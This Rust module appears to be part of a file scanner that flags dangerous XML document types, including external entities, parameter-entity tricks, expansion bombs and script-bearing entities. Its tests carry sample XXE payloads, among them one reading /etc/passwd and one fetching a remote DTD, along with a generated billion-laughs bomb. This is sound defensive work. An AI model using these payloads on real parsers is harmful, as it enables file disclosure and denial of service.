//! What the document type of an XML text brings with it: entities that fetch or explode.

use super::decode;
use super::markup::{Token, Tokens};
use crate::{Budget, Notes, Severity, Unscannable};
use std::cell::OnceCell;
use std::collections::HashMap;

/// What all entities together may grow to.
const EXPANSION_MAX: u64 = 1_000_000;
const ENTITIES_MAX: usize = 10_000;
/// References to others within one entity, and entities that have any.
const WEB_MAX: usize = 150;

/// Looks at the document type of any XML text (an OOXML part, a plot, data).
pub fn check(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unscannable> {
    budget.charge(text.len().max(1) as u64)?;
    let mut tokens = Tokens::xml(text);
    let references = References::of(text);
    for token in tokens.by_ref() {
        match token {
            Token::Doctype(inner) => doctype(inner, &references, notes),
            Token::Instruction(inner) => instruction(inner, notes),
            // Behind the root element no document type can follow; an attacker's reader may differ.
            Token::Open(_) => break,
            _ => {}
        }
    }
    let rest = text.get(tokens.at()..).unwrap_or("");
    if rest.contains("<!ENTITY") {
        doctype(rest, &references, notes);
    }
    Ok(())
}

pub(super) fn instruction(inner: &str, notes: &mut Notes) {
    let lower = inner.to_ascii_lowercase();
    if !lower.starts_with("xml-stylesheet") {
        return;
    }
    let outside = lower.contains("href=\"http")
        || lower.contains("href='http")
        || lower.contains("href='//")
        || lower.contains("href=\"//")
        || lower.contains("data:")
        || lower.contains("javascript:");
    if outside {
        notes.find(
            "xml.stylesheet",
            Severity::Suspicious,
            "",
            "a style sheet from elsewhere is applied, which can hold scripts",
        );
    }
}

struct Entity<'a> {
    value: &'a str,
    parameter: bool,
}

/// How many references to entities a text has: counted once, though it may have many types.
pub(super) struct References<'a> {
    text: &'a str,
    count: OnceCell<u64>,
}

impl<'a> References<'a> {
    pub(super) fn of(text: &'a str) -> Self {
        let count = OnceCell::new();
        Self { text, count }
    }

    fn count(&self) -> u64 {
        let count = || self.text.matches('&').count() as u64;
        *self.count.get_or_init(count)
    }
}

/// Looks at the declarations of a document type.
pub(super) fn doctype(inner: &str, references: &References<'_>, notes: &mut Notes) {
    let mut entities: HashMap<&str, Entity<'_>> = HashMap::new();
    let mut done = 0;
    for (at, _) in inner.match_indices("<!ENTITY").take(ENTITIES_MAX) {
        if at < done {
            continue;
        }
        let body = inner[at + 8..].trim_start();
        let (parameter, body) = match body.strip_prefix('%') {
            Some(rest) if rest.starts_with(char::is_whitespace) => (true, rest.trim_start()),
            _ => (false, body),
        };
        let name_end = decode::head(body, 1000)
            .find(char::is_whitespace)
            .unwrap_or(0);
        let (name, rest) = body.split_at(name_end);
        let rest = rest.trim_start();
        if rest.starts_with("SYSTEM") || rest.starts_with("PUBLIC") {
            let declared: String = name.chars().take(40).collect();
            notes.find(
                "xml.external_entity",
                Severity::Malicious,
                "",
                format!("entity `{declared}` reads a file or an address when the text is parsed"),
            );
            continue;
        }
        let quote = rest.chars().next().filter(|c| matches!(c, '"' | '\''));
        let Some((value, _)) = quote.and_then(|quote| rest[1..].split_once(quote)) else {
            break;
        };
        // The next declaration stands behind this one's value.
        done = inner.len() - rest.len() + value.len();
        entities.insert(name, Entity { value, parameter });
    }
    if entities.values().any(|entity| {
        entity.parameter
            && (entity.value.contains('%')
                || entity.value.contains("ENTITY")
                || entity.value.contains("&#"))
    }) {
        notes.find(
            "xml.parameter_entity",
            Severity::Malicious,
            "",
            "declarations are put together from parts, as attacks on parsers do",
        );
    }
    let grown = grows(&entities);
    let used = || references.count();
    if grown > EXPANSION_MAX
        || (grown > 10_000 && grown.saturating_mul(used()) > 50 * EXPANSION_MAX)
    {
        notes.find(
            "xml.entity_bomb",
            Severity::Malicious,
            "",
            "entities grow to millions of characters when the text is parsed",
        );
    }
    let active = |value: &str| {
        let lower = value.to_ascii_lowercase();
        lower.contains("<script")
            || lower.contains("&#60;")
            || lower.contains("&#x3c;")
            || lower.contains("javascript:")
            || lower.contains("onload")
    };
    if entities.values().any(|entity| active(entity.value)) {
        notes.find(
            "xml.active_entity",
            Severity::Malicious,
            "",
            "an entity hides a script",
        );
    }
}

/// The longest that an entity becomes, all references within resolved; a circle counts as
/// endless, and so does a web of more references than any honest text has.
fn grows(entities: &HashMap<&str, Entity<'_>>) -> u64 {
    let mut sizes: HashMap<&str, u64> = HashMap::new();
    let mut webs: Vec<(&str, u64, HashMap<&str, u64>)> = Vec::new();
    for (name, entity) in entities {
        let own = entity.value.len() as u64;
        sizes.insert(name, own);
        let mut within: HashMap<&str, u64> = HashMap::new();
        for part in entity.value.split(['&', '%']).skip(1) {
            let reference = part.split_once(';').map(|(inner, _)| inner);
            if let Some((inner, _)) = reference.and_then(|inner| entities.get_key_value(inner)) {
                *within.entry(inner).or_default() += 1;
            }
        }
        if within.len() > WEB_MAX || webs.len() > WEB_MAX {
            return u64::MAX;
        }
        if !within.is_empty() {
            webs.push((name, own, within));
        }
    }
    for _ in 0..=webs.len() {
        let mut changed = false;
        for (name, own, within) in &webs {
            let size = within.iter().fold(*own, |sum, (inner, times)| {
                sum.saturating_add(times.saturating_mul(sizes.get(inner).copied().unwrap_or(0)))
            });
            changed |= sizes.insert(name, size) != Some(size);
        }
        if !changed {
            return sizes.values().copied().max().unwrap_or(0);
        }
    }
    u64::MAX
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Limits;

    fn worst(text: &str) -> Option<Severity> {
        let mut notes = Notes::default();
        check(text, &mut notes, &mut Budget::new(Limits::default())).expect("small");
        notes.worst()
    }

    #[test]
    fn entities_that_fetch_or_explode_are_malicious() {
        for text in [
            "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://a.invalid/e.dtd'> %p;]><r/>",
            "<!DOCTYPE r [<!ENTITY x PUBLIC 'a' 'http://a.invalid'>]><r/>",
            "<?xml version='1.0'?><!-- [ --><!DOCTYPE r [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><r/>",
            "<!DOCTYPE r [<!ENTITY x '<script>alert(1)</script>'>]><r>&x;</r>",
            "<!DOCTYPE r [<!ENTITY % a '<!ENTITY b SYSTEM \"x\">'> %a;]><r/>",
        ] {
            assert_eq!(worst(text), Some(Severity::Malicious), "{text}");
        }
        let mut bomb = String::from("<!DOCTYPE r [<!ENTITY a0 'lol'>");
        for level in 1..10 {
            let inner = format!("&a{};", level - 1).repeat(10);
            bomb.extend(["<!ENTITY a", &level.to_string(), " '", &inner, "'>"]);
        }
        assert_eq!(worst(&(bomb + "]><r>&a9;</r>")), Some(Severity::Malicious));
    }

    #[test]
    fn plain_document_types_are_clean() {
        assert_eq!(worst("<?xml version='1.0'?><!DOCTYPE rows><rows/>"), None);
        assert_eq!(
            worst(
                "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><svg/>"
            ),
            None
        );
        assert_eq!(
            worst(
                "<!DOCTYPE svg [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">]><svg xmlns=\"&ns_svg;\"/>"
            ),
            None
        );
    }

    /// The whole text was once gone through for each of them.
    #[test]
    fn a_page_of_many_types_is_read_in_one_go() {
        let text = "<![a]><!DOCTYPE a [<!ENTITY % a 'b'>]>".repeat(50_000);
        let mut budget = Budget::new(Limits::default());
        let start = std::time::Instant::now();
        crate::check::html::check(&text, &mut Notes::default(), &mut budget).expect("read");
        crate::check::svg::check(&text, &mut Notes::default(), &mut budget).expect("read");
        check(&text, &mut Notes::default(), &mut budget).expect("read");
        assert!(start.elapsed().as_secs() < 5, "{:?}", start.elapsed());
    }
}
